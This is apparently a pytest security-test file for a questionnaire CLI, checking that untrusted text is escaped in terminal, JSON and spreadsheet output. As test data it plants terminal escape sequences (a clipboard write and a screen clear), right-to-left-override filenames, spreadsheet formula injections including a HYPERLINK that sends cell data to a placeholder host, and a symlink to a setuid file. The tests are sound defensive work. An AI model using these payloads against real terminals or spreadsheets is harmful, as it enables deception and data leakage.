"""Untrusted text never reaches the terminal as control characters."""

from __future__ import annotations

import json
from pathlib import Path

from conftest import make_data_dir
from migdev_cli.cli import app
from migdev_cli.escaping import json_safe, visible

RLO = "\u202e"  # right-to-left override: makes "exe.txt" read as "txt.exe"


def test_visible_escapes_controls_bidi_and_separators():
    assert visible("a\x1b[31mb\x07") == "a\\x1b[31mb\\x07"
    assert visible(f"x{RLO}y\u2028z\x85") == "x\\u202ey\\u2028z\\x85"
    assert visible("tab\tand\nnewline") == "tab\tand\nnewline"
    assert visible("tab\tand\nnewline", keep="") == "tab\\x09and\\x0anewline"


def test_json_safe_keeps_valid_json():
    raw = json.dumps({"name": f"a\x85b{RLO}c é"}, ensure_ascii=False)
    safe = json_safe(raw)
    assert "\x85" not in safe and RLO not in safe and "é" in safe
    assert json.loads(safe) == json.loads(raw)


def test_bidi_override_and_c1_in_catalog_text_are_escaped(runner, tmp_path: Path):
    data = make_data_dir(tmp_path, ["diaspora-bond"])
    bond = data / "instruments" / "diaspora-bond.yaml"
    text = bond.read_text(encoding="utf-8")
    name_line = next(line for line in text.splitlines() if line.startswith("name: "))
    bond.write_text(text.replace(name_line, f'name: "Bond {RLO}gnp.exe \\x85 end"'), encoding="utf-8")
    args = ["--data-dir", str(data), "--no-builtin"]
    listed = runner.invoke(app, [*args, "instruments", "list"])
    assert listed.exit_code == 0
    assert RLO not in listed.stdout and "\\u202e" in listed.stdout
    shown = runner.invoke(app, [*args, "instruments", "show", "diaspora-bond", "--json"])
    assert RLO not in shown.stdout and "\x85" not in shown.stdout
    assert json.loads(shown.stdout)["name"] == f"Bond {RLO}gnp.exe \x85 end"


def test_control_characters_in_a_file_name_are_escaped(runner, tmp_path: Path):
    bad = tmp_path / "ans\x1b[2Jwers.yaml"
    bad.write_text("questionnaire: core\nanswers:\n  budgt: under_100k\n", encoding="utf-8")
    result = runner.invoke(app, ["assess", "--answers", str(bad)])
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "ans\\x1b[2Jwers.yaml:3:" in result.stderr


def test_report_json_escapes_bidi_and_c1(runner, tmp_path: Path):
    answers = tmp_path / "a.yaml"
    answers.write_text(f'questionnaire: core\nprogramme: {{name: "P{RLO}x\\x85y"}}\nanswers: {{budget: under_100k}}\n')
    result = runner.invoke(app, ["export", "--answers", str(answers), "--output", "-", "--format", "json"])
    assert result.exit_code == 0
    assert RLO not in result.stdout and "\x85" not in result.stdout
    assert json.loads(result.stdout)["programme"]["name"] == f"P{RLO}x\x85y"


def test_csv_header_with_control_characters_is_escaped_in_errors(runner, tmp_path: Path):
    csv = tmp_path / "responses.csv"
    csv.write_text(f"trust,evil\x1b]0;title\x07{RLO}\nhigh,1\n", encoding="utf-8")
    result = runner.invoke(app, ["assess", "--responses", str(csv)])
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and RLO not in result.stderr and "\\x1b" in result.stderr


# --------------------------------------------------------------------------- file names and exception text

ESC = "\x1b]52;c;ZXZpbA==\x07\x1b[2J"  # a clipboard write and a screen clear


def test_file_names_are_escaped_in_written_exists_and_cannot_write(runner, tmp_path: Path, answers_file: Path):
    out = tmp_path / f"report{ESC}.md"
    written = runner.invoke(app, ["export", "--answers", str(answers_file), "--output", str(out)])
    assert written.exit_code == 0, written.output
    exists = runner.invoke(app, ["export", "--answers", str(answers_file), "--output", str(out)])
    assert exists.exit_code == 1 and "already exists" in exists.stderr
    missing_dir = tmp_path / f"no{ESC}dir" / "report.md"
    cannot = runner.invoke(app, ["export", "--answers", str(answers_file), "--output", str(missing_dir)])
    assert cannot.exit_code == 1 and "does not exist" in cannot.stderr
    form = runner.invoke(app, ["questionnaire", "xlsform", str(tmp_path / f"form{ESC}.xlsx")])
    assert form.exit_code == 0, form.output
    for result in (written, exists, cannot, form):
        assert "\x1b" not in result.output and "\x07" not in result.output
        assert "\\x1b]52;c;ZXZpbA==\\x07" in result.stderr


def test_internal_error_text_is_escaped() -> None:
    """A bug's exception text (which may quote data) is shown escaped, on one line."""
    import typer
    from typer.testing import CliRunner

    from migdev_cli.cli_group import MigdevGroup

    buggy = typer.Typer(cls=MigdevGroup)

    @buggy.command()
    def crash() -> None:
        raise RuntimeError(f"bad value {ESC}\nsecond line")

    @buggy.command()
    def other() -> None:
        pass

    result = CliRunner().invoke(buggy, ["crash"])
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    (line,) = result.stderr.splitlines()
    assert line.startswith("internal error: RuntimeError: bad value \\x1b]52;c;ZXZpbA==\\x07")


# --------------------------------------------------------------------------- formulas in the XLSForm


def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path: Path):
    from openpyxl import load_workbook
    from pyxform.xls2xform import convert

    from migdev_cli.loader import validate
    from migdev_cli.questionnaire_models import Questionnaire
    from migdev_cli.xlsform import questionnaire_to_xlsform

    hostile = {
        "text": '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
        "help": "+1 for the cost of sending money",
        "choices": [{"value": "a", "label": "-2 percentage points"}, {"value": "b", "label": "@SUM(A1:A9)"}],
    }
    questionnaire = validate(
        Questionnaire,
        {
            "id": "formulas",
            "title": "=1+1",
            "version": "1",
            "sections": [{"id": "s", "title": "S", "questions": [{"id": "q", "type": "single", **hostile}]}],
        },
        "",
        "formulas.yaml",
    )
    out = tmp_path / "form.xlsx"
    questionnaire_to_xlsform(questionnaire, out)
    workbook = load_workbook(out)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    risky = [cell for cell in cells if str(cell.value).startswith(("=", "+", "-", "@"))]
    assert {str(c.value) for c in risky} >= {hostile["text"], hostile["help"], "-2 percentage points", "@SUM(A1:A9)"}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)
    xform = convert(xlsform=str(out), warnings=[]).xform
    assert "HYPERLINK" in xform and "@SUM(A1:A9)" in xform  # pyxform reads the labels as text


# --------------------------------------------------------------------------- planted links


def test_force_onto_a_planted_symlink_does_not_copy_the_targets_mode(runner, tmp_path: Path, answers_file: Path):
    target = tmp_path / "victim"
    target.write_text("someone else's file\n", encoding="utf-8")
    target.chmod(0o4777)  # set-user-ID and writable by all
    link = tmp_path / "report.md"
    link.symlink_to(target)
    result = runner.invoke(app, ["export", "--answers", str(answers_file), "--output", str(link), "--force"])
    assert result.exit_code == 0, result.output
    assert not link.is_symlink() and link.read_text(encoding="utf-8").startswith("#")
    assert link.stat().st_mode & 0o7000 == 0 and not link.stat().st_mode & 0o002
    assert target.read_text(encoding="utf-8") == "someone else's file\n" and target.stat().st_mode & 0o7777 == 0o4777


def test_file_names_are_escaped_in_warnings_and_validate(runner, tmp_path: Path):
    answers = tmp_path / f"a{ESC}.yaml"
    answers.write_text(
        "questionnaire: core\nanswers:\n  stage: [long_term]\n  returnee_situation: forced_or_unprepared\n"
    )
    warned = runner.invoke(app, ["assess", "--answers", str(answers), "--json"])
    assert warned.exit_code == 0, warned.output
    assert "ignored" in warned.stderr
    data = make_data_dir(tmp_path / f"d{ESC}", ["diaspora-bond"])
    validated = runner.invoke(app, ["validate", str(data), "--alone"])
    assert validated.exit_code == 0, validated.output
    for result in (warned, validated):
        assert "\x1b" not in result.output and "\x07" not in result.output
        assert "\\x1b]52;c;ZXZpbA==\\x07" in result.output
